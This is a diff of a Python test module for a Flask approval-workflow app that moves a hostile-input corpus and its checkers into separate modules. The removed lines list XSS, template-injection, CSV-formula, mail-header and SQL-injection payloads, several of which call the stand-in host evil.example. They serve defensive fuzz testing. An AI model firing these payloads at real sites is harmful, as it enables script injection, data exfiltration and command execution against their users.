@@ -2,14 +2,9 @@
 
 from __future__ import annotations
 
-import csv
 import io
-import itertools
-import json
 import logging
 import re
-from collections import Counter
-from dataclasses import dataclass, field
 from datetime import timedelta
 from typing import Any
 from unittest import mock
@@ -17,13 +12,11 @@ from urllib.parse import urlsplit
 
 from flask import Flask
 from playwright.sync_api import Browser as Chromium
-from playwright.sync_api import Page
 from sqlalchemy import select
 from werkzeug.exceptions import HTTPException
 
 from tests.conftest import Browser
 from tests.helpers import factories, lookups
-from tests.helpers.chromium import close
 from tests.helpers.pages import question
 from tests.helpers.smtp_server import SmtpServer
 from webapp import clock, links
@@ -36,103 +29,19 @@ from webapp.workflow.entitlements import Entitlement
 from webapp.workflow.policy import Approver, Policy, StepRule
 from webapp.workflow.states import Visibility
 
+from .corpus import ADDRESSES as ADDRESSES
+from .corpus import corpus as corpus
+from .findings import (
+    Findings,
+    look_at_log,
+    look_at_mails,
+    look_at_mails_in_a_browser,
+    look_at_table,
+    look_at_texts,
+    look_in_a_browser,
+)
 from .installation import send
 from .robots import Sight
-
-# What a payload does if it runs: each of these is looked for.
-DO = "window.pwned=1;alert(1);fetch('//evil.example/x')"
-TAGS = (
-    "<script>{}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=\"{}\">",
-    "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>",
-    "<body onload=\"{}\">", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe src=\"javascript:{}\">",
-    "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\">", "<input autofocus onfocus=\"{}\">",
-    "<marquee onstart=\"{}\">", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
-    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
-    "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
-    "<form action=//evil.example/><button>Approve</button></form>", "<a href=\"javascript:{}\">x</a>",
-    "<math><mtext><style><img src=x onerror=\"{}\">", "<img src=//evil.example/pixel.gif>",
-    "<button hx-get=//evil.example/x hx-trigger=load>x</button>", "<div hx-on:load=\"{}\">x</div>",
-    "<template><script>{}</script></template>", "<audio src=//evil.example/x onerror=\"{}\">",
-    "<xmp><img src=x onerror=\"{}\"></xmp>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
-)  # fmt: skip
-BREAKS = (
-    "{}", "\">{}", "'>{}", "`>{}", "</textarea>{}", "</title>{}", "-->{}", "</script>{}", "]]>{}", "</p></div>{}",
-    "\\\">{}", "&lt;b&gt;{}",
-)  # fmt: skip
-ATTRIBUTES = tuple(
-    f"{quote}{space}{event}={quote}{DO}{quote} x={quote}"
-    for quote in ("\"", "'", "`")
-    for space in (" ", "/", "\t", "\n")
-    for event in ("onmouseover", "onfocus", "onerror", "onload", "onanimationstart")
-)  # fmt: skip
-TEMPLATES = tuple(
-    begin + inside + end
-    for begin, end in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"))
-    for inside in (
-        " 7*7 ", " config ", " me.password_hash ", " self.__init__.__globals__ ", " ''.__class__.__mro__ ",
-        " request.environ ", " cycler.__init__.__globals__.os.popen('id').read() ", " settings.secret_key ",
-    )
-)  # fmt: skip
-FORMULAS = tuple(
-    sign + rest
-    for sign in ("=", "+", "-", "@", "\t=", "\r=", " =", "\"=", "'=", "＝", "﹢", "\n=")
-    for rest in ("cmd|'/C calc'!A0", "HYPERLINK(\"//evil.example\",\"x\")", "1+1", "SUM(A1:A9)*cmd",
-                 "IMPORTXML(\"//evil.example\")")
-)  # fmt: skip
-HEADERS = tuple(
-    f"x{end}{line}"
-    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e", "嘊嘍", "\r\n\t")
-    for line in ("Bcc: all@evil.example", "Set-Cookie: a=b", "Location: //evil.example",
-                 "\r\n<script>alert(1)</script>")
-)  # fmt: skip
-TURNING = tuple(
-    f"{sign}{words}"
-    for sign in (
-        "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u200e", "\u061c", "\u200b",
-        "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u115f", "\u034f",
-    )
-    for words in ("gnp.exe", "Approved by Ana", "", "x\u202c y")
-)  # fmt: skip
-ODD = (
-    "\0", "a\0b", "\0" * 50, "\x01\x02\x07\x08\x1b[31mred\x1b[0m", "\x7f", "\ufffe\uffff", "\U0001fffe", "\ud800",
-    "👩‍👩‍👧‍👦", "🏳️‍🌈🇩🇪", "😀" * 200, "Z" + "\u0301" * 30, "İstanbul", "ß ﬁ Ω≈ç√", "ﷺ" * 30, "𝕳𝖊𝖑𝖑𝖔", "…", "\u3000",
-    " ", "\t\n", "-", "0", "None", "null", "undefined", "NaN", "true", "[]", "{}", "1e999", "9" * 400, "-1",
-    "'; DROP TABLE people; --", "\" OR 1=1 --", "%' OR '1'='1", "\\", "\\'", "%s%n%x", "{0.__class__}", "%(password)s",
-    "../../../etc/passwd", "..\\..\\", "/decide/x", "file:///etc/passwd", "javascript:" + DO, "JaVaScRiPt:alert(1)",
-    "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "https://evil.example/?q=1",
-    "long " * 300, "W" * 2000, "x" * 100_000,
-)  # fmt: skip
-ADDRESSES = (
-    "аna@example.com", "ana@exаmple.com", "ana@еxample.com", "ana@example.com\u200b", "ana\u00ad@example.com",
-    "ANA@EXAMPLE.COM", "ana@example.com\0", "ana@example.com\r\nBcc: x@evil.example", "ana@example.com,x@evil.example",
-    "\"ana\"@example.com", "ana+x@example.com", "ana@[127.0.0.1]", "<ana@example.com>", "ana@example.com (x)",
-    "ana@bücher.example", "ａｎａ@example.com", "ana@xn--exmple-cua.com", "ana@@example.com", "@", "ana@example",
-    "ana@example.com;x@evil.example", "=?utf-8?q?ana?=@example.com", "ana@exam\u2024ple.com", "ana@example。com",
-    "a" * 300 + "@example.com",
-)  # fmt: skip
-
-
-def corpus() -> list[str]:
-    """All of them, each once, those of one family side by side."""
-    html = [
-        broken.replace("{}", tag.replace("{}", DO)) for tag, broken in itertools.product(TAGS, BREAKS)
-    ]  # fmt: skip
-    return list(dict.fromkeys([*html, *ATTRIBUTES, *TEMPLATES, *FORMULAS, *HEADERS, *TURNING, *ODD, *ADDRESSES]))
-
-
-@dataclass
-class Findings:
-    """What came of it; `wrong` in sentences, `statuses` of all that was posted."""
-
-    payloads: int = 0
-    statuses: Counter[int] = field(default_factory=Counter)
-    pages: int = 0
-    mails: int = 0
-    cells: int = 0
-    lines: int = 0
-    # (route, field) of everything that a payload was typed into.
-    fields: set[tuple[str, str]] = field(default_factory=set)
-    wrong: list[str] = field(default_factory=list)
 
 
 def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpServer, chromium: Chromium | None,
@@ -151,10 +60,10 @@ def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpSe
         talk, *others = _type_everywhere(app, company, words, found)
         send()
         found.mails = len(smtp.mails)
-        _look_at_mails(smtp, found)
+        look_at_mails(smtp, found)
         admin, rita = Browser(app, company.adam), Browser(app, company.rita)
-        _look_at_texts(rita, talk, words, found)
-        _look_at_table(admin, found)
+        look_at_texts(rita, talk, words, found)
+        look_at_table(admin, found)
         paths = {
             company.rita: ["/", "/catalog", "/requests", "/search?q=e", talk],
             company.ana: ["/", "/approvals", talk.replace("/requests", "/approvals"), "/approvals/decided"],
@@ -163,13 +72,13 @@ def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpSe
         }  # fmt: skip
         if chromium is not None:
             for person, some in paths.items():
-                _look_in_a_browser(app, chromium, address, person, some, found)
+                look_in_a_browser(app, chromium, address, person, some, found)
             look_at_mails_in_a_browser(chromium, smtp, found)
     finally:
         limiter.enabled = True
         root.handlers[:] = handlers
         root.setLevel(level)
-    _look_at_log(log, found)
+    look_at_log(log, found)
     return found
 
 
@@ -183,16 +92,18 @@ class _Hand:
     def __init__(self, app: Flask, company: factories.Company, found: Findings) -> None:
         self.app, self.company, self.found = app, company, found
         self._people: dict[str, Browser] = {}
-        self.word = ""
+        self.word, self.htmx = "", False
 
     def takes(self, word: str, number: int) -> None:
         self.word = word
+        # Every other word goes as htmx sends a form: a refusal is then drawn as a part of the page.
+        self.htmx = number % 2 == 1
         if number % 50 == 0:  # changing rules and people needs a password of the last quarter of an hour
             people: dict[str, Person | None] = {name: getattr(self.company, name) for name in ("adam", "rita", "ana")}
             self._people = {name: Browser(self.app, one) for name, one in (people | {"nobody": None}).items()}
 
-    def post(self, who: str, path: str, **form: Any) -> Any:
-        return self._told("POST", path, form, self._people[who].post(path, form))
+    def post(self, who: str, path: str, *, htmx: bool = False, **form: Any) -> Any:
+        return self._told("POST", path, form, self._people[who].post(path, form, htmx=htmx))
 
     def get(self, path: str, *names: str, **fixed: str) -> None:
         words = dict.fromkeys(names, self.word[:300])
@@ -218,7 +129,7 @@ class _Hand:
             for name, kind, value in form.fields:
                 if name and kind in ONE_LINE:
                     kept.setdefault(name, []).append(value)  # a field may be there several times
-            self.post("adam", form.action.partition("#")[0], **kept | typed)
+            self.post("adam", form.action.partition("#")[0], htmx=self.htmx, **kept | typed)
 
     def _told(self, method: str, path: str, form: dict[str, Any], answer: Any) -> Any:
         self.found.statuses[answer.status_code] += 1
@@ -428,123 +339,3 @@ def _ends(hand: _Hand, company: factories.Company, made: Any, page: str, ben: st
         hand.post("rita", page.removeprefix("/admin") + "/return", reason=words[:450])
     else:
         hand.post("adam", f"{page}/archive", asked=hand.question(f"{page}/archive"), pending="cancel", why=words)
-
-
-def _look_at_texts(browser: Browser, talk: str, words: list[str], found: Findings) -> None:
-    """Nothing is lost: what was written stands on the page, in one of its parts, as it was written, but for `clean`."""
-    from tests.test_hostile_input import Skeleton
-
-    text, path = "", talk
-    while path:
-        source = browser.get(path).text
-        text += "".join(Skeleton(source).texts)
-        earlier = [one for one in Sight(source).addresses if one.startswith(f"{talk}?before=")]
-        path = earlier[0].partition("#")[0] if earlier else ""
-    for one in words:
-        kept = clean(one.encode("utf-8", "replace").decode())
-        if kept and len(kept) <= 1000 and kept not in text:
-            found.wrong.append(f"not on the page: {kept!r:.200}")
-
-
-def _look_at_mails(smtp: SmtpServer, found: Findings) -> None:
-    from tests.mail.test_hostile import HEADERS as KNOWN
-    from tests.mail.test_hostile import Tags
-
-    # What an admin gave as the link that opens an app: nobody else's words are ever a link.
-    opening = {one for one in db.session.scalars(select(App.launch_url)) if one}
-    db.session.rollback()
-    for mail in smtp.mails:
-        tags = Tags(mail.html)
-        names = mail.message.keys()
-        if not set(names) <= KNOWN or len(set(names)) != len(names) or len(mail.recipients) != 1:
-            found.wrong.append(f"a mail with the headers {names}, to {mail.recipients}")
-        if {"script", "img", "iframe", "svg", "form", "object"} & set(tags.tags):
-            found.wrong.append(f"a mail with the tags {sorted(set(tags.tags))}")
-        if any(name.startswith("on") for name in tags.attributes):
-            found.wrong.append(f"a mail with the attributes {sorted(tags.attributes)}")
-        if not all(where.startswith("http://localhost/") for where in set(tags.addresses) - opening):
-            found.wrong.append(f"a mail that leads to {sorted(tags.addresses)}")
-
-
-def _look_at_table(admin: Browser, found: Findings) -> None:
-    answer = admin.get("/admin/audit.csv", buffered=True)
-    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
-    for cell in itertools.chain.from_iterable(rows):
-        found.cells += 1
-        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
-            found.wrong.append(f"a cell that is a formula: {cell!r:.200}")
-    if len({len(row) for row in rows}) != 1:
-        found.wrong.append("rows of the table have different lengths")
-
-
-def _look_at_log(log: io.StringIO, found: Findings) -> None:
-    for line in log.getvalue().split("\n"):
-        if line:
-            found.lines += 1
-            try:
-                json.loads(line)
-            except ValueError:
-                found.wrong.append(f"a line of the log that is none: {line!r:.200}")
-            if "\x1b" in line or "\0" in line:
-                found.wrong.append(f"a line of the log that moves the screen: {line!r:.200}")
-
-
-def _watched(page: Page, host: str, found: Findings) -> None:
-    page.on("dialog", lambda dialog: (found.wrong.append(f"a dialog on {page.url}"), dialog.dismiss()))
-
-    def said(message: Any) -> None:
-        if "Content Security Policy" in message.text or message.type == "error":
-            found.wrong.append(f"the console on {page.url}: {message.text:.200}")
-
-    page.on("console", said)
-
-    def asked(request: Any) -> None:
-        if not request.url.startswith((host, "data:", "about:", "blob:")):
-            found.wrong.append(f"a request to {request.url:.200} from {page.url}")
-
-    page.on("request", asked)
-
-
-def _look_in_a_browser(app: Flask, chromium: Chromium, address: str, person: Person, paths: list[str],
-                       found: Findings) -> None:  # fmt: skip
-    browser = Browser(app, person)
-    cookie = browser.client.get_cookie("countersign")
-    assert cookie is not None
-    context = chromium.new_context()
-    context.add_cookies([{"name": "countersign", "value": cookie.value, "url": address}])
-    page = context.new_page()
-    _watched(page, address, found)
-    for path in paths:
-        following: str | None = path
-        for _ in range(60):
-            page.goto(address + following)
-            found.pages += 1
-            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
-            if page.evaluate("window.pwned") is not None:
-                found.wrong.append(f"a script ran on {page.url}")
-            # All pages of a list, as far as it says "More" or "Older".
-            more = page.locator(".cs-pager a").filter(has_text="More").or_(
-                page.locator(".cs-pager a").filter(has_text="Older")
-            ).or_(page.locator(".cs-pager a").filter(has_text="Next"))  # fmt: skip
-            following = more.first.get_attribute("href") if more.count() else None
-            if following is None:
-                break
-            if following.startswith("?"):
-                following = path.partition("?")[0] + following
-    close(context)
-
-
-def look_at_mails_in_a_browser(chromium: Chromium, smtp: SmtpServer, found: Findings) -> None:
-    """As a mail program without any guard would show them."""
-    context = chromium.new_context()
-    page = context.new_page()
-    _watched(page, "http://localhost/", found)
-    shown = {"html": ""}
-    # At an address, so that one without a scheme leads somewhere, too.
-    page.route("http://localhost/mail", lambda route: route.fulfill(content_type="text/html", body=shown["html"]))
-    for mail in smtp.mails:
-        shown["html"] = mail.html
-        page.goto("http://localhost/mail")
-        if page.evaluate("window.pwned") is not None:
-            found.wrong.append(f"a script ran in the mail {mail.subject!r:.200}")
-    close(context)
